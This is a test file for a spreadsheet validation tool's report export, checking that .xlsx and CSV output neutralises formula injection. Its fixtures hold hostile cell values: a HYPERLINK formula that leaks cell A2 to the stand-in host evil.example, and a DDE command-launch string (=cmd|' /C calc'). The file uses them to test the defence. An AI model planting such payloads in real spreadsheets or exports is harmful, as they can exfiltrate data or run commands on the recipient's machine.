// The preview's export: the report as .xlsx (read back with exceljs, as a user's spreadsheet would open it) and as
// CSV, with texts that try to become formulas.
import * as ExcelJS from "exceljs";
import type { Finding } from "../../src/core/findings/finding";
import { finding } from "../support/finding";
import { exportFileName, reportCsv, reportRows, reportXlsx } from "../../src/presenters";


const hostile = [
  finding({ cell: "B4", message: '=HYPERLINK("http://evil.example/?leak="&A2;"klik")', expected: "Rp 3.195.000.000", actual: "Rp 3.200.000.000", difference: -5_000_000, suggestion: "@SUM(A1)" }),
  finding({ sheet: "=cmd|' /C calc'!A0", cell: "A1", severity: "warning", message: "+1+1", actual: "\t=tab", suggestion: "-2+3; dan \"kutip\"" }),
  finding({ sheet: "Pengukuran", cell: "E5", severity: "info", rule: "SAKIP-CAPAIAN-001", message: "Capaian 90,39% ditulis 90,25%.", expected: "90,39%", actual: "90,25%", difference: 0.0014 }),
];
const meta = { workbookName: "=PK 2026.xlsx", generatedAt: new Date("2026-12-01T08:30:00Z"), sheetNames: ["PK Kepala", "Pengukuran"] };

test(".xlsx: the same rows as the report sheet, every text a text cell, no formula anywhere", async () => {
  const bytes = await reportXlsx(hostile, "id", meta);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as any);
  const ws = wb.getWorksheet("Laporan Validasi")!;
  const rows = reportRows(hostile, "id", meta);
  const formulas: string[] = [];
  ws.eachRow((row) => row.eachCell((c) => {
    if (c.type === ExcelJS.ValueType.Formula || (c.value as any)?.formula || (c.value as any)?.sharedFormula) formulas.push(c.address);
  }));
  expect(formulas).toEqual([]);
  expect(ws.getCell("A1").value).toBe("Laporan Validasi");
  expect(ws.getCell("A2").value).toBe("Workbook: =PK 2026.xlsx");
  const top = rows.title.length + 2;
  expect(ws.getRow(top).values).toEqual([undefined, ...rows.head]);
  rows.rows.forEach((r, i) => expect((ws.getRow(top + 1 + i).values as unknown[]).slice(1)).toEqual(r.map((v) => (v === "" ? undefined : v))));
  const evil = ws.getCell(`F${top + 1}`);
  expect(evil.type).toBe(ExcelJS.ValueType.String);
  expect(evil.value).toBe('=HYPERLINK("http://evil.example/?leak="&A2;"klik")');
  expect(evil.numFmt).toBe("@");
  expect(ws.getCell(`I${top + 1}`).value).toBe("Rp 5.000.000 lebih tinggi");
});

test("CSV: fields that would be formulas start with an apostrophe; separators and quotes survive", () => {
  const csv = reportCsv(hostile, "id", meta);
  expect(csv.startsWith("\ufeffNo;Tingkat;Aturan;Sheet;Sel;Pesan;Seharusnya;Tertulis;Selisih;Saran\r\n")).toBe(true);
  const lines = csv.slice(1).trimEnd().split("\r\n");
  expect(lines).toHaveLength(4);
  expect(lines[1]).toBe(`1;Galat;SAKIP-TOTAL-001;PK Kepala;B4;"'=HYPERLINK(""http://evil.example/?leak=""&A2;""klik"")";Rp 3.195.000.000;Rp 3.200.000.000;Rp 5.000.000 lebih tinggi;'@SUM(A1)`);
  // Every field, once unquoted, is inert.
  const fields = lines.flatMap((l) => l.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((f) => f.replace(/;$/, "").replace(/^"|"$/g, "").replace(/""/g, '"')));
  expect(fields.filter((f) => /^[=+@\t\r]/.test(f) || /^-[^\dR]/.test(f))).toEqual([]);
  expect(csv).toContain(`'=cmd|' /C calc'!A0`);
  expect(csv).toContain(`"'-2+3; dan ""kutip"""`);
  expect(csv).toContain(`'\t=tab`);
});

test("CSV in English: comma separated, English figures and words", () => {
  const csv = reportCsv(hostile, "en", meta);
  const lines = csv.slice(1).trimEnd().split("\r\n");
  expect(lines[0]).toBe("No,Severity,Rule,Sheet,Cell,Message,Expected,Found,Difference,Suggestion");
  // Sheets in workbook order, an unknown one last.
  expect(lines[2]).toBe("2,Info,SAKIP-CAPAIAN-001,Pengukuran,E5,The total does not equal its items.,90.39%,90.25%,0.14 percentage points too low,");
  expect(lines[3].startsWith("3,Warning,SAKIP-TOTAL-001,'=cmd|' /C calc'!A0,A1,")).toBe(true);
  expect(exportFileName("PK 2026.xlsx", "csv", "en")).toBe("PK 2026 - Validation report.csv");
  expect(exportFileName("a/b.xlsx", "xlsx", "id")).toBe("a_b - Laporan Validasi.xlsx");
});
